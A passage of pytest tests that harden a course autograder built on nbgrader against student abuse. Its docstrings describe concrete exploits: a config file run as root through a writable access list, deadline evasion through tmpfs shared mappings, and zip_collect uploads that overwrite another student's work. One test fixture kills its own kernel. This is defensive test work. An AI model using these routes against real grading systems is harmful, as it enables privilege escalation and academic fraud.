    assert not planted.exists(), f"a student's file in the shared folder ran: {planted.read_text()}"
    assert stat.S_IMODE(shared.stat().st_mode) == 0o1777


def test_a_folder_or_notebook_an_access_list_lets_another_user_write_is_anothers():
    """Round 45: a folder of the TA's, mode 0750, whose POSIX access list let the student write it (user:65534:rwx)
    ran her nbgrader_config.py as root; a default access list let her rewrite the TA's own notebook. The access
    list's named entries count, as far as its mask lets them."""
    import types

    from grader.formgrader_guard import others_may_write

    def acl(*entries):
        return (2).to_bytes(4, "little") + b"".join(tag.to_bytes(2, "little") + perm.to_bytes(2, "little")
                                                    + who.to_bytes(4, "little") for tag, perm, who in entries)

    mine = types.SimpleNamespace(st_uid=os.geteuid(), st_gid=os.getegid(), st_mode=0o40750)
    student = acl((1, 7, 0), (2, 7, 65534), (4, 5, 0), (0x10, 7, 0), (0x20, 0, 0))
    assert others_may_write(mine, None) is None
    assert "user 65534" in others_may_write(mine, student)
    assert others_may_write(mine, acl((1, 7, 0), (2, 7, 65534), (4, 5, 0), (0x10, 5, 0), (0x20, 0, 0))) is None
    assert "group 4242" in others_may_write(mine, acl((1, 7, 0), (8, 6, 4242), (0x10, 7, 0)))
    assert "another user" in others_may_write(types.SimpleNamespace(st_uid=65534 if os.geteuid() != 65534 else 1,
                                                                    st_gid=0, st_mode=0o40700), None)
    # the account that owns the checkout is the caller's own (a TA's `sudo make grade` in her clone, round 45)
    ta = types.SimpleNamespace(st_uid=4243, st_gid=4243, st_mode=0o40775)
    assert "another user" in others_may_write(ta, None) and others_may_write(ta, None, trusted=((4243,), ())) \
        == "group 4243 may write it"
    assert others_may_write(ta, None, trusted=((4243,), (4243,))) is None
    from grader import formgrader_guard

    assert f"TRUSTED = {formgrader_guard.checkout_writers()!r}" in formgrader_guard.venv_config()
    assert formgrader_guard.checkout_writers()[0] == (os.stat(formgrader_guard.CHECKOUT).st_uid,)
    sticky = types.SimpleNamespace(st_uid=0, st_gid=0, st_mode=0o41777)
    assert others_may_write(sticky, None, in_sticky_path=True) is None and others_may_write(sticky, None)
    # round 46: /tmp is group-writable too (1777 root:root), for an ordinary user's grader as much as root's
    assert others_may_write(types.SimpleNamespace(st_uid=0, st_gid=4244, st_mode=0o41777), None, True) is None
    assert others_may_write(types.SimpleNamespace(st_uid=0, st_gid=4244, st_mode=0o40777), None, True)
    assert "another user" in others_may_write(types.SimpleNamespace(st_uid=4245, st_gid=0, st_mode=0o41777), None, True)


def test_collect_says_late_times_cannot_be_told_on_an_exchange_in_memory(tmp_path):
    """Round 44: on tmpfs, a page of a notebook a student mapped shared and wrote once stays writable, and later
    writes through it change no time of the file or its folder: a notebook rewritten after the deadline was
    collected as on time. No time can tell it there; collect says so where the exchange is on tmpfs, and not
    elsewhere."""
    import subprocess
    import sys
    import tempfile

    from grader import collect as collect_module
    from grader.course import venv_env

    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION")]
    root = _small_class(tmp_path, "ps0_tmpfs", source, {})
    if not collect_module._on_tmpfs("/dev/shm"):
        pytest.skip("no tmpfs at /dev/shm")
    said = {}
    with tempfile.TemporaryDirectory(dir="/dev/shm") as memory:
        for where in (memory, str(tmp_path / "disk")):
            os.makedirs(os.path.join(where, "distcourse", "inbound"))
            run = subprocess.run([sys.executable, "-m", "nbgrader", "collect", "ps0_tmpfs", f"--Exchange.root={where}"],
                                 cwd=root, env=venv_env(), capture_output=True, text=True, timeout=120)
            said[where] = run.stdout + run.stderr
    warning = collect_module.TMPFS_WARNING[:60]
    assert warning in said[memory], said[memory][-2000:]
    assert collect_module._on_tmpfs(str(tmp_path)) or warning not in said[str(tmp_path / "disk")]


def test_zip_collect_is_refused_in_the_course(tmp_path):
    """Round 39: `nbgrader zip_collect` takes student ids and file names from a regular expression over uploaded
    archives, as whoever runs it: an upload named for another student replaced that student's hand-in, a broad file
    group wrote outside the course as root, archives kept setuid modes, a link loop spun for ever. The course's
    configuration refuses it, saying what to use instead, before it reads or writes anything."""
    import subprocess
    import sys

    from grader.course import venv_env

    source = [nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION")]
    root = _small_class(tmp_path, "ps0_zip", source, {"aaron": {}})
    before = (root / "submitted" / "aaron" / "ps0_zip" / "ps0_zip.ipynb").read_bytes()
    archive = root / "downloaded" / "ps0_zip" / "archive"
    archive.mkdir(parents=True)
    (archive / "x_aaron_attempt_2026-01-01-00-00-00_ps0_zip.ipynb").write_text("{}")
    run = subprocess.run([sys.executable, "-m", "nbgrader", "zip_collect", "ps0_zip", "--force",
                          "--FileNameCollectorPlugin.named_regexp=.*_(?P<student_id>\\w+)_attempt_"
                          "(?P<timestamp>[0-9\\-]+)_(?P<file_id>\\w+)"],
                         cwd=root, env=venv_env(), capture_output=True, text=True, timeout=300)
    assert run.returncode != 0 and "not used in this course" in run.stdout + run.stderr, (run.stdout + run.stderr)[-3000:]
    assert not (root / "downloaded" / "ps0_zip" / "extracted").exists()
    assert (root / "submitted" / "aaron" / "ps0_zip" / "ps0_zip.ipynb").read_bytes() == before


def test_a_kernel_the_hosts_oom_killer_took_fails_as_the_graders_fault(tmp_path, monkeypatch, capsys):
    """Round 54: an account outside the grader ran the host out of memory; the OOM killer took an honest student's
    kernel (a sandbox is its first choice) and the hand-in got 0 in words that blamed it. Where the sandbox's own
    counters say the host's killer took it (sandbox.killed_by_host_oom, tested on both cgroup versions in
    test_zygote.py), the submission fails as the grader's fault, the run exits 1 and the next run grades it."""
    from grader import sandbox

    source = [
        nba.solution("add", "def add(a, b):\n    ### BEGIN SOLUTION\n    return a + b\n    ### END SOLUTION"),
        nba.tests("add_small", "### BEGIN HIDDEN TESTS\nfrom probes import selftest as probe\n"
                  "probe.add(add, 1, 2)\n### END HIDDEN TESTS", points=1),
    ]
    died = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\ndef add(a, b):\n    return a + b"
    root = _small_class(tmp_path, "ps0_host_oom", source, {"aa_killed": {"add": died}})
    seen = []

    def as_if_the_host_killed(paths):
        seen.append(list(paths))
        return True

    monkeypatch.setattr(sandbox, "killed_by_host_oom", as_if_the_host_killed)
    code = grade.main(["ps0_host_oom", "--course-dir", str(root), "--workers", "1"])
    report = {o["student"]: o for o in json.loads((root / "grading_report.json").read_text())}
    assert code == 1, capsys.readouterr()
    assert report["aa_killed"]["status"] == "failed", report
    assert report["aa_killed"]["reason"].startswith(grade.GRADER_FAULT + "the machine ran out of memory"), report
    assert seen and not (root / "autograded" / "aa_killed").exists()
    if os.geteuid() == 0 and sandbox.cgroups_possible():  # the counters read are the sandbox's own cgroups
        assert any(os.path.basename(p).startswith(sandbox.CGROUP_PREFIX) for p in seen[0]), seen
    monkeypatch.undo()
    # its own kill, as the real counters say: graded, the cell lost (the kernel died), and the run exits 0
    assert grade.main(["ps0_host_oom", "--course-dir", str(root), "--workers", "1"]) == 0
    again = {o["student"]: o for o in json.loads((root / "grading_report.json").read_text())}
    assert again["aa_killed"]["status"] == "graded", again
